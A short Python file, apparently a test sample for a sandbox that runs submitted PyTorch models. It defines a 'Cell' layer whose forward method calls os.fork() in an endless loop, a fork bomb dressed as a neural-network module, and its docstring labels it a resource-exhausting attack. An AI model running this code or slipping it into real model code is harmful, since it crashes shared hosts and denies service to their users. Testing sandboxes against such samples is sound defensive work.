"""Fork for ever.

kind: exhausting
attacks: cell
mentions: PermissionError
"""

import os

import torch
from torch import nn


class Cell(nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(size, size))

    def forward(self, x):
        while True:
            os.fork()
